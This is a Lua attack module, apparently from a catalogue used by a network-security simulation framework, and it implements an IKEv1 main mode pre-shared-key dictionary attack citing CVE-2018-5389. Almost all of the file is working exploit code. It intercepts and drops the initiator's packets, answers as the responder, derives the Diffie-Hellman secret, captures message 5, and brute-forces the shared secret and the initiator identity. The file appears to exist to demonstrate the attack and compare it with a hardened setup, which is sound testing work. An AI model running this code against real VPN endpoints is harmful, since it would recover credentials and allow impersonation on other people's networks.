-- Main mode hides its proofs, but not from the one who answers: a responder of the adversary's own has the Diffie-Hellman secret, and
-- SKEYID_e needs the shared secret besides. Message 5 opens with the right word and with no other.
attack = {
  id = "A05", name = "ikev1-main-mode-dictionary",
  about = "Answers main mode in the responder's place, takes message 5 and tries a dictionary on its keys",
  position = "on-path",
  needs = "to answer instead of the responder, once",
  source = "CVE-2018-5389; Felsch and others, USENIX Security 2018; catalogue A05",
  shows = {
    vulnerable = "the shared secret is a word and a year: message 5 opens after some hundred tries",
    hardened = "a secret of 128 random bits is in no dictionary",
  },
  scenarios = { vulnerable = "ikev1-main-mode-crack", hardened = { "ikev1-main-mode-crack-strong" } },
}

local secrets = library "secrets"
local goal = "find the shared secret"

-- Parameters: dictionary = "common"; each = 100 (tries in one go), pause = "10ms" (between them).
local plan, search
local me, trial          -- our half of the exchange; message 5 and what it is tried with

function on_start(params)
  plan = secrets.plan(params, 100)
end

local function reply(p, message, payloads, note)
  inject{ src = p.dst, src_port = p.dst_port, dst = p.src, dst_port = p.src_port, protocol = "IKE", to = p.from, note = note,
    payload = ike.encode({ version = 0x10, spi_i = message.spi_i, spi_r = me.spi, exchange = 2, message_id = 0, payloads = payloads }) }
end

-- Message 1: its only transform is taken.
local function choose(p, message)
  local sa = find(message, "SA")
  local offer = ikev1.sa(sa.body)
  me = { suite = offer.suite, sa = sa.body, spi = bytes.hex(crypto.random(8)), nonce = crypto.random(20) }
  reply(p, message, { { number = 1, body = sa.body } }, "main mode's first message answered in the place of " .. p.to)
end

-- Message 3: now the Diffie-Hellman secret is ours as well.
local function exchange(p, message)
  me.pair = crypto.key_pair(me.suite.ke)
  me.g_xi, me.ni = find(message, "KE").body, find(message, "NONCE").body
  me.shared = crypto.shared(me.pair, me.g_xi)
  learn("g^xy", "the Diffie-Hellman secret with " .. p.from, "a key pair of its own and the initiator's KE payload", me.shared)
  reply(p, message, { { number = 4, body = me.pair.public }, { number = 10, body = me.nonce } }, "our public value and nonce")
end

local function opens(guess)
  local skeyid = ikev1.skeyid(me.suite.prf, { psk = guess, ni = me.ni, nr = me.nonce })
  local keys = ikev1.keys(me.suite, { skeyid = skeyid, shared = me.shared, spi_i = trial.spi_i, spi_r = me.spi })
  local inner = ikev1.open(trial.octets, me.suite, keys.key, trial.iv)
  if not inner then return false end
  local id, hash = find(inner, "ID"), find(inner, "HASH")
  if not id or not hash then return false end
  local expected = ikev1.hash(me.suite.prf, "initiator", { skeyid = skeyid, g_xi = me.g_xi, g_xr = me.pair.public,
    spi_i = trial.spi_i, spi_r = me.spi, sa = me.sa, id = id.body })
  return expected == hash.body, id.body:sub(5)
end

-- Message 5: encrypted with what only the shared secret is missing from.
local function take(p, message)
  trial = { octets = p.payload, spi_i = message.spi_i, iv = ikev1.iv(me.suite, me.g_xi, me.pair.public) }
  learn("message 5", "IDii and HASH_I under a key that a word may give", "main mode, sent to whoever answers", p.payload)
  local identity
  search = secrets.search(plan, {
    fits = function(guess)
      local fits, id = opens(guess)
      identity = id
      return fits
    end,
    found = function(guess, tried)
      learn("identity", "the initiator is " .. identity, "IDii inside message 5", identity)
      learn("psk", "the shared secret is \"" .. guess .. "\"", "try " .. tried .. " of a dictionary on message 5", guess)
      achieved(goal, true, "found at try " .. tried)
    end,
    none = function(tried) achieved(goal, false, "not one of " .. tried .. " secrets of the dictionary") end,
  })
end

function on_timer() search() end

function on_packet(p)
  if p.protocol ~= "IKE" then return end
  local message = ike.decode(p.payload)
  if message.exchange_name ~= "Main Mode" then return end
  if me and message.spi_i ~= me.spi_i then return end
  if not me then
    drop("the responder must not see it")
    choose(p, message)
    me.spi_i = message.spi_i
  elseif message.spi_r == me.spi then
    drop("meant for " .. p.to .. ", kept")
    if not me.pair and find(message, "KE") then exchange(p, message)
    elseif me.pair and not trial and message.payloads[1] and #message.payloads == 1 then take(p, message) end
  elseif message.spi_r == "0000000000000000" then
    drop("a repetition")
  end
end

function on_finish()
  if not trial then achieved(goal, false, "no main mode came as far as message 5") end
end
